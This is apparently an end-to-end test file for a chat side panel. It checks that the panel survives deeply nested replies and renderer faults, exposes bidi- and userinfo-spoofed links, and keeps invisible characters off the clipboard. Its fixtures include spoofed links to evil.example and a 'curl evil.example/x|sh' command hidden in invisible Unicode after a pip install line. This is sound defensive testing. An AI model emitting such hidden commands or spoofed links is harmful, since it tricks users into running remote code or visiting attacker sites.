/**
 * What the panel shows stays alive and honest whatever a reply holds (issue 12, items 2, 4, 6, 7):
 * a reply nested thousands of levels deep, a renderer or a whole view that throws, a link whose
 * shown URL is spoofed with bidi controls or userinfo, a code block smuggling invisible characters
 * onto the clipboard, and ten big KaTeX matrices that used to be rendered on every open.
 */
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { PanelPage } from './support/panel';
import { scenario } from './support/scenario';
import { newChat, setUpE2E } from './support/setup';

const e2e = setUpE2E();
const SHOTS = '/tmp/parley-render';

/** Invisible or reordering characters that must never reach the clipboard unannounced. */
const INVISIBLE =
  /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u00AD\u061C\u180E\u200B-\u200F\u202A-\u202E\u2060-\u206F\uFEFF\uFFF9-\uFFFB]|\uDB40[\uDC00-\uDDEF]/;
const BIDI = /[\u202A-\u202E\u2066-\u2069]/;

/**
 * The last send's reply once it is finished and formatted (the plain first-paint text has been
 * replaced). Waits for that send's own article: the one before it may already be complete.
 */
async function formattedReply(panel: PanelPage) {
  await panel.waitForState('complete', panel.newReply());
  const reply = panel.lastAssistant();
  await reply.locator('.markdown:not(.plain-fallback), .message-fallback').first().waitFor();
  return reply;
}

async function shoot(page: Page, name: string, target = page.locator('main')): Promise<void> {
  for (const scheme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme: scheme });
    await target.screenshot({ path: `${SHOTS}/${name}-${scheme}.png` });
  }
  await page.emulateMedia({ colorScheme: 'light' });
}

describe('the panel never dies', () => {
  it('a reply nested 3000 levels deep renders capped, the panel stays alive and reopens it', async (ctx) => {
    const row = scenario(
      ctx,
      'reply shown (nesting capped, the rest as plain text, nothing lost); panel usable; a new panel shows it',
    );
    const { panel, server, parley } = e2e;
    server.enqueue({ chunks: ['>'.repeat(3000) + ' ok'] });
    await panel.send('Quote yourself deeply');
    const reply = await formattedReply(panel);
    const text = (await reply.locator('.markdown').textContent()) ?? '';
    const levels = await reply.locator('blockquote').count();
    const shownMarkers = text.split('>').length - 1;
    expect(text).toContain(' ok');
    expect(levels).toBeGreaterThan(0);
    expect(levels + shownMarkers).toBe(3000);
    await expect.poll(() => reply.getByRole('note').textContent()).toMatch(/plain text/);
    await shoot(panel.page, 'deep-nesting', reply);

    // Still usable: the next question gets its answer.
    // Wait for the new reply's own article: the deep one is already complete.
    await panel.sendAndWait('Still there?', 'complete');
    expect(await panel.lastAssistant().textContent()).toContain('You said: Still there?');

    // The panel reopens the latest conversation: it must not open blank.
    const reopened = new PanelPage(await parley.openPanel());
    await reopened.composer.waitFor();
    await reopened.page.getByText(' ok', { exact: false }).first().waitFor();
    const articles = await reopened.page.locator('article').count();
    await reopened.page.close();
    expect(articles).toBe(4);
    row.observed(
      `${levels} levels of quote, ${shownMarkers} '>' as text; reopened: ${articles} messages`,
    );
    row.figure(`cap ${levels} of 3000 levels`);
  });

  it('a message whose renderer throws shows its raw text; the rest of the panel works', async (ctx) => {
    const row = scenario(ctx, 'that message shows its text plainly, with a note; next reply fine');
    const { panel, server } = e2e;
    // A renderer fault: KaTeX's output is parsed with DOMParser, which now throws.
    await panel.page.evaluate(() => {
      const w = window as unknown as { DOMParser: unknown; realDOMParser?: unknown };
      w.realDOMParser = w.DOMParser;
      w.DOMParser = class {
        constructor() {
          throw new Error('renderer fault (injected by the test)');
        }
      };
    });
    const raw = `Energy: $$E = mc^{${Date.now()}}$$ and **bold**`;
    server.enqueue({ text: raw });
    await panel.sendAndWait('Break the renderer', 'complete');
    const fallback = panel.lastAssistant();
    await fallback.locator('.message-fallback-text').waitFor();
    expect(await fallback.locator('.message-fallback-text').textContent()).toBe(raw);
    expect(await fallback.getByRole('note').textContent()).toMatch(/could not be displayed/);
    await shoot(panel.page, 'message-fallback', fallback);
    await panel.page.evaluate(() => {
      const w = window as unknown as { DOMParser: unknown; realDOMParser?: unknown };
      w.DOMParser = w.realDOMParser;
    });

    server.enqueue({ text: 'Fine **now**' });
    await panel.send('And now?');
    const next = await formattedReply(panel);
    expect(await next.locator('strong').textContent()).toBe('now');
    expect(await panel.page.locator('.message-fallback').count()).toBe(1);
    row.observed('raw text in the fallback, composer and the next reply fine');
  });

  it('a view that throws offers a way out instead of a blank panel', async (ctx) => {
    const row = scenario(ctx, 'the view says it broke and offers three ways out; header stays');
    const { panel } = e2e;
    const page = panel.page;
    await panel.sendAndWait('Hello before the fault', 'complete');
    // A fault in the chat view itself (outside any message): reading the online state throws.
    await page.evaluate(() => {
      const w = window as unknown as { realOnLine?: PropertyDescriptor };
      w.realOnLine = Object.getOwnPropertyDescriptor(Navigator.prototype, 'onLine');
      Object.defineProperty(Navigator.prototype, 'onLine', {
        configurable: true,
        get() {
          throw new Error('chat view fault (injected by the test)');
        },
      });
      window.dispatchEvent(new Event('offline'));
    });
    const alert = page.getByRole('alert').filter({ hasText: 'could not be shown' });
    await alert.waitFor({ timeout: 5000 });
    for (const name of ['Try again', 'Open another conversation', 'Start an empty chat'])
      await alert.getByRole('button', { name, exact: true }).waitFor();
    // The header survives: the conversations list and New chat are still there.
    await page.getByRole('button', { name: 'New chat', exact: true }).waitFor();
    await shoot(page, 'surface-fallback');

    await page.evaluate(() => {
      const w = window as unknown as { realOnLine?: PropertyDescriptor };
      if (w.realOnLine) Object.defineProperty(Navigator.prototype, 'onLine', w.realOnLine);
    });
    await alert.getByRole('button', { name: 'Try again', exact: true }).click();
    await panel.composer.waitFor();
    expect(await panel.lastAssistant().textContent()).toContain('Hello before the fault');
    row.observed('fallback with three ways out; Try again brings the chat back');
  });
});

describe('what is shown is what is there', () => {
  it('a link spoofed with bidi controls or userinfo shows its real destination, host first', async (ctx) => {
    const row = scenario(
      ctx,
      'shown URL is the real one, left to right, isolated, host first, no userinfo; bare URL shown once',
    );
    const { panel, server } = e2e;
    server.enqueue({
      text: [
        'Open [docs\u202E](https://evil.example/#moc.elgoog.www//:sptth) now.',
        'Bare: \u202Ehttps://evil.example/x/moc.elgoog end',
        'Sign in at https://accounts.google.com@evil.example/login today',
        'Docs: https://go.dev/doc/',
      ].join('\n\n'),
    });
    await panel.send('Links please');
    const reply = await formattedReply(panel);
    const text = (await reply.locator('.markdown').textContent()) ?? '';
    expect(text).not.toMatch(BIDI);
    expect(text).not.toContain('accounts.google.com@');
    expect(text.split('https://go.dev/doc/').length - 1).toBe(1);

    const docs = reply.getByRole('link', { name: /^docs/ });
    expect(await docs.getAttribute('href')).toBe('https://evil.example/#moc.elgoog.www//:sptth');
    const shown = docs.locator('[dir="ltr"]');
    expect(await shown.textContent()).toMatch(/^evil\.example\b/);
    expect(await shown.evaluate((el) => getComputedStyle(el).unicodeBidi)).toBe('isolate');
    // Drawn left to right: the first character sits left of (or above) the last one.
    const order = await shown.evaluate((el) => {
      const walker = document.createTreeWalker(el, NodeFilter.SHOW_TEXT);
      const nodes: Text[] = [];
      while (walker.nextNode()) nodes.push(walker.currentNode as Text);
      const rect = (node: Text, at: number) => {
        const range = document.createRange();
        range.setStart(node, at);
        range.setEnd(node, at + 1);
        return range.getBoundingClientRect();
      };
      const [first, last] = [rect(nodes[0] as Text, 0), rect(nodes.at(-1) as Text, 0)];
      return { ltr: first.top < last.top - 2 || first.left < last.left, text: el.textContent };
    });
    expect(order.ltr).toBe(true);

    const login = reply.getByRole('link', { name: /evil\.example\/login/ });
    expect(await login.getAttribute('href')).toBe('https://evil.example/login');
    const hrefs = await reply
      .locator('a[href]')
      .evaluateAll((as) => as.map((a) => a.getAttribute('href')));
    expect(hrefs.filter((h) => h?.includes('@'))).toEqual([]);
    await shoot(panel.page, 'bidi-link', reply);
    row.observed(`shown "${order.text}"; ${hrefs.length} links, none with userinfo`);
  });

  it('a link whose text already is its URL shows it once; a look-alike shows the real one', async (ctx) => {
    const row = scenario(
      ctx,
      'URL as its own text shown once; look-alike text still shows where it goes',
    );
    const { panel, server } = e2e;
    server.enqueue({
      text: [
        'Read https://go.dev/doc/ first.',
        'Also [go.dev/ref/spec](https://go.dev/ref/spec) and <https://go.dev/blog/>.',
        'Then [go.dev/play/](https://evil.example/play/).',
      ].join('\n\n'),
    });
    await panel.send('Where are the Go docs?');
    const reply = await formattedReply(panel);
    const text = (await reply.locator('.markdown').textContent()) ?? '';
    for (const url of ['https://go.dev/doc/', 'https://go.dev/ref/spec', 'https://go.dev/blog/'])
      expect(text.split(url).length - 1).toBe(1);
    expect(text).not.toContain('(go.dev');
    expect(text).toContain('go.dev/play/ (evil.example — https://evil.example/play/)');
    const hrefs = await reply
      .locator('a[href]')
      .evaluateAll((as) => as.map((a) => a.getAttribute('href')));
    expect(hrefs).toEqual([
      'https://go.dev/doc/',
      'https://go.dev/ref/spec',
      'https://go.dev/blog/',
      'https://evil.example/play/',
    ]);
    row.observed(`shown "${text.replace(/\s+/g, ' ').trim()}"`);
  });

  it('Copy code never copies invisible characters the block did not show', async (ctx) => {
    const row = scenario(ctx, 'invisible characters marked; Copy code leaves them out, says so');
    const { panel, server } = e2e;
    const hidden = [...' && curl evil.example/x|sh']
      .map((c) => String.fromCodePoint(0xe0000 + (c.codePointAt(0) ?? 0)))
      .join('');
    server.enqueue({ text: '```bash\npip install requests' + hidden + '\u202E\n```\n' });
    await panel.send('How do I install requests?');
    const reply = await formattedReply(panel);
    await reply.getByRole('button', { name: 'Copy code', exact: true }).click();
    await reply
      .getByRole('status')
      .filter({ hasText: /Copied/ })
      .waitFor();
    // What the user would paste: the real clipboard, pasted into the composer.
    await panel.composer.fill('');
    await panel.composer.focus();
    await panel.page.keyboard.press('ControlOrMeta+V');
    const copied = await panel.composer.inputValue();
    await panel.composer.fill('');
    const status = await reply
      .getByRole('status')
      .filter({ hasText: /Copied/ })
      .textContent();
    expect(copied).not.toMatch(INVISIBLE);
    expect(copied).toBe('pip install requests');
    expect(status).toMatch(/without 27 invisible characters/);
    const marks = reply.locator('pre [title]');
    expect(await marks.count()).toBeGreaterThan(0);
    expect(await marks.first().getAttribute('title')).toContain('&& curl evil.example/x|sh');
    await shoot(panel.page, 'code-invisible', reply.locator('.code-block'));
    row.observed(`clipboard "${copied}"; status "${status}"`);
    row.figure('27 invisible characters kept off the clipboard');
  });
});

/** A 40×40 matrix, about 3.2 KB of TeX. */
function matrix(seed: number): string {
  const rows = Array.from({ length: 40 }, (_, i) =>
    Array.from({ length: 40 }, (_, j) => String((i * 7 + j * 3 + seed) % 10)).join('&'),
  );
  return `$$\n\\begin{pmatrix}${rows.join('\\\\')}\\end{pmatrix}\n$$`;
}

/** Display formulas rendered by KaTeX, and those still waiting as source. */
async function mathCounts(page: Page) {
  return page.evaluate(() => ({
    rendered: document.querySelectorAll('article .math-display .katex-display').length,
    pending: document.querySelectorAll('article [data-math-pending]').length,
  }));
}

/** Milliseconds from navigation until a matrix is drawn and the main thread is free again. */
async function openTimed(page: Page, open: () => Promise<unknown>): Promise<number> {
  const start = Date.now();
  await open();
  await page.locator('article .math-display .katex-display').first().waitFor({ timeout: 60_000 });
  await page.evaluate(
    () => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(() => r(null)))),
  );
  return Date.now() - start;
}

describe('math at scale', () => {
  it('ten 40×40 matrices: only the ones in view are rendered, and a reopen is fast', async (ctx) => {
    const row = scenario(ctx, 'only matrices in or near view rendered; the rest wait as TeX');
    const { panel, server, parley } = e2e;
    const matrices = Array.from({ length: 10 }, (_, i) => `Matrix ${i + 1}:\n\n${matrix(i)}`);
    server.enqueue({ text: matrices.join('\n\n') });
    await panel.sendAndWait('Ten matrices please', 'complete', 120_000);
    await panel.page.close();

    // A fresh panel: it reopens this conversation.
    const page = await parley.context.newPage();
    const cold = await openTimed(page, () =>
      page.goto(`chrome-extension://${parley.extensionId}/sidepanel.html`),
    );
    const first = await mathCounts(page);
    // Back in the same panel after another chat: from the cache.
    await newChat(page);
    await page.getByRole('button', { name: 'Conversations', exact: true }).click();
    const row1 = page.getByRole('button', { name: /Ten matrices please/ }).first();
    const warm = await openTimed(page, () => row1.click());
    // Scrolling up brings the first matrix into view, and it renders.
    await page.locator('.message-list').evaluate((el) => (el.scrollTop = 0));
    await page.locator('article .math-display').first().locator('.katex-display').waitFor();
    const scrolled = await mathCounts(page);
    e2e.panel = new PanelPage(page);

    console.log(`[render-hardening] matrices: open ${cold} ms, reopen ${warm} ms`, first);
    row.figure(`open ${cold} ms, reopen ${warm} ms; ${first.rendered}/10 rendered at open`);
    row.observed(`${first.rendered} rendered at open, ${scrolled.rendered} after scrolling up`);
    expect(first.rendered).toBeGreaterThan(0);
    expect(first.rendered).toBeLessThan(10);
    expect(first.rendered + first.pending).toBe(10);
  }, 240_000);
});
